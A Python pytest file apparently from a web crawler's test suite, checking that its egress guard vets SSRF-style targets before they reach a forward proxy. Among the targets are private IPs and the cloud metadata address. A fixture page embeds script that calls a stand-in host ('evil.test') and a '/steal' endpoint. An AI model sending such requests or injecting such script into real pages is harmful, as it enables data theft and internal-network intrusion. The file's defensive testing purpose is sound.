"""``--proxy`` / ``EgressPolicy(proxy=...)`` through a real forward proxy on loopback.

The proxy keeps the pin: pressmark resolves and vets every target itself and asks the
proxy to CONNECT to the vetted IP literal, so the proxy never resolves a name and never
sees a target the guard refuses. The proxy's own log is the evidence.
"""

from __future__ import annotations

import http.server
import json
import threading
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from click.testing import CliRunner
from forward_proxy import ForwardProxy

from pressmark.cli import main
from pressmark.crawl import CrawlPolicy, crawl
from pressmark.egress import (
    EgressDenied,
    EgressPolicy,
    GuardedClient,
    NetworkError,
    StaticResolver,
)
from pressmark.testing import RecordingConnector

if TYPE_CHECKING:
    from pressmark.demo import DemoServer

HOSTILE = {
    "internal.test": ["10.0.0.5"],
    "meta.test": ["169.254.169.254"],
    "mixed.test": ["93.184.216.34", "10.0.0.1"],
    "loop.test": ["127.0.0.1"],
    "public.test": ["93.184.216.34"],
}


def _port(origin: str) -> int:
    return int(origin.rsplit(":", 1)[1])


def test_crawl_of_the_demo_site_goes_through_the_proxy(
        demo_server: DemoServer, demo_origin: str, tmp_path: Path) -> None:
    mark = len(demo_server.requests)
    with ForwardProxy() as proxy:
        result = CliRunner().invoke(main, [
            "crawl", demo_origin + "/", "--out", str(tmp_path / "out"), "--allow-loopback",
            demo_origin, "--proxy", proxy.url, "--max-pages", "25", "--render", "never",
            "--workers", "0", "-q"])
    assert result.exit_code == 0, result.output
    pages = [json.loads(line) for line in
             (tmp_path / "out" / "pages.jsonl").read_text().splitlines()]
    assert sum(p["outcome"] == "ok" for p in pages) >= 20
    # Every tunnel was asked for the vetted address itself, and every request the demo
    # server saw came from one of the proxy's own upstream sockets: nothing went around it.
    assert proxy.log.connects and set(proxy.log.connects) == {f"127.0.0.1:{_port(demo_origin)}"}
    seen = demo_server.requests[mark:]
    assert seen and {int(r.peer.rsplit(":", 1)[1]) for r in seen} <= proxy.log.outbound_ports


async def test_a_crawl_through_the_proxy_refuses_a_private_seed_before_the_proxy(
        demo_origin: str, tmp_path: Path) -> None:
    """A crawl with a demo page and a name that resolves to a private address among its
    seeds: the demo page comes through the proxy, the other is denied by the guard, and
    the proxy is never asked for it (no CONNECT to its address, nor to its name)."""
    with ForwardProxy() as proxy:
        policy = CrawlPolicy(egress=EgressPolicy(proxy=proxy.url).allow_loopback(demo_origin),
                             max_pages=2, max_depth=0, render="never", workers=0)
        manifest = await crawl([demo_origin + "/about", "http://internal.test/"], policy,
                               out_dir=tmp_path / "out", resolver=StaticResolver(HOSTILE))
        log = proxy.log
    by_url = {page.url: page for page in manifest.pages}
    assert by_url[demo_origin + "/about"].outcome == "ok"
    denied = by_url["http://internal.test/"]
    assert denied.outcome == "denied" and denied.error is not None, denied
    assert denied.error.kind == "egress-denied" and "private" in denied.error.message
    assert log.connects and set(log.connects) == {f"127.0.0.1:{_port(demo_origin)}"}


def test_fetch_through_the_proxy_and_without_it(demo_origin: str) -> None:
    runner = CliRunner()
    with ForwardProxy() as proxy:
        through = runner.invoke(main, ["fetch", demo_origin + "/about", "--allow-loopback",
                                       demo_origin, "--proxy", proxy.url, "--format", "json"])
        log = proxy.log
    assert through.exit_code == 0, through.output
    assert json.loads(through.stdout)["status"] == 200
    assert log.connects == [f"127.0.0.1:{_port(demo_origin)}"] * len(log.connects)
    # the proxy is gone: there is no other way out, and the message names the proxy
    down = runner.invoke(main, ["fetch", demo_origin + "/about", "--allow-loopback",
                                demo_origin, "--proxy", proxy.url])
    assert down.exit_code == 4
    assert f"could not connect to the proxy 127.0.0.1:{proxy.port}" in down.stderr


def test_localhost_origin_is_tunnelled_as_the_loopback_address(demo_origin: str) -> None:
    local = f"http://localhost:{_port(demo_origin)}"
    with ForwardProxy() as proxy:
        result = CliRunner().invoke(main, ["fetch", local + "/about", "--allow-loopback", local,
                                           "--proxy", proxy.url])
    assert result.exit_code == 0, result.output
    assert proxy.log.connects == [f"127.0.0.1:{_port(demo_origin)}"]  # never "localhost"


@pytest.mark.parametrize("url", [
    "http://internal.test/", "http://meta.test/latest/meta-data/", "http://mixed.test/",
    "http://loop.test/", "http://10.0.0.5/", "http://169.254.169.254/", "http://localhost/",
    "http://[::1]/", "https://internal.test/", "http://public.test:6379/",
])
async def test_a_refused_target_never_reaches_the_proxy(url: str) -> None:
    with ForwardProxy() as proxy:
        async with GuardedClient(EgressPolicy(proxy=proxy.url), StaticResolver(HOSTILE),
                                 RecordingConnector()) as client:
            with pytest.raises(EgressDenied):
                await client.get(url)
        log = proxy.log
    assert (log.accepted, log.bytes_received, log.connects) == (0, 0, [])


def test_the_cli_refuses_before_the_proxy_too() -> None:
    with ForwardProxy() as proxy:
        result = CliRunner().invoke(main, ["fetch", "http://10.0.0.5/admin", "--proxy",
                                           proxy.url])
        log = proxy.log
    assert result.exit_code == 3
    assert "10.0.0.5" in result.stderr and "private" in result.stderr
    assert (log.accepted, log.bytes_received) == (0, 0)


async def test_the_proxy_is_asked_for_the_vetted_ip_never_the_name() -> None:
    with ForwardProxy() as proxy:
        async with GuardedClient(EgressPolicy(proxy=proxy.url), StaticResolver(HOSTILE),
                                 RecordingConnector()) as client:
            with pytest.raises(NetworkError, match="refused the tunnel"):
                await client.get("http://public.test/")  # the test proxy dials loopback only
        log = proxy.log
    assert log.connects == ["93.184.216.34:80"]


async def test_proxy_credentials_are_sent_and_a_refusal_is_a_network_error(
        demo_origin: str) -> None:
    policy = EgressPolicy().allow_loopback(demo_origin)
    with ForwardProxy(credentials=("ann", "s3cret")) as proxy:
        good = EgressPolicy(proxy=proxy.url, test_only_allowed_loopback_origins=(demo_origin,))
        async with GuardedClient(good, StaticResolver({}), RecordingConnector()) as client:
            assert (await client.get(demo_origin + "/about")).status == 200
        wrong = EgressPolicy(proxy=f"http://ann:nope@127.0.0.1:{proxy.port}",
                             test_only_allowed_loopback_origins=policy.
                             test_only_allowed_loopback_origins)
        async with GuardedClient(wrong, StaticResolver({}), RecordingConnector()) as client:
            with pytest.raises(NetworkError, match="407") as info:
                await client.get(demo_origin + "/about")
        log = proxy.log
    assert "s3cret" not in str(info.value) and "nope" not in str(info.value)
    assert log.refused_auth == 1 and len(log.connects) >= 1


_PAGE = (b"<!doctype html><html><head><title>proxy</title></head><body><main>"
         b"<h1>Through the proxy</h1><p>Rendered by Chromium, every request through the "
         b"egress proxy and then the upstream one.</p>"
         b'<script>fetch("http://evil.test/pixel").catch(() => {});'
         b'fetch("http://10.0.0.7/steal").catch(() => {});</script>'
         b"</main></body></html>")


class _Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(_PAGE)))
        self.end_headers()
        self.wfile.write(_PAGE)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.mark.browser
async def test_the_browser_goes_through_the_same_rule_and_the_proxy() -> None:
    from pressmark.render import PlaywrightRenderer, PoolLimits, RenderOptions

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Page)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    origin = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        with ForwardProxy() as proxy:
            policy = EgressPolicy(proxy=proxy.url).allow_loopback(origin)
            resolver = StaticResolver({"evil.test": ["10.0.0.7"]})
            async with PlaywrightRenderer(policy, resolver,
                                          limits=PoolLimits(max_tabs=1)) as renderer:
                result = await renderer.render(origin + "/", RenderOptions())
                denied = list(renderer.proxy.denied)  # type: ignore[attr-defined]
            log = proxy.log
    finally:
        server.shutdown()
        server.server_close()
    assert "<h1>Through the proxy</h1>" in result.html
    # the page came through the upstream proxy, asked for by its vetted address ...
    assert log.connects and set(log.connects) == {f"127.0.0.1:{_port(origin)}"}
    # ... and the page's requests to a private address were refused before it
    assert {"evil.test", "10.0.0.7"} <= {d.host for d in denied}
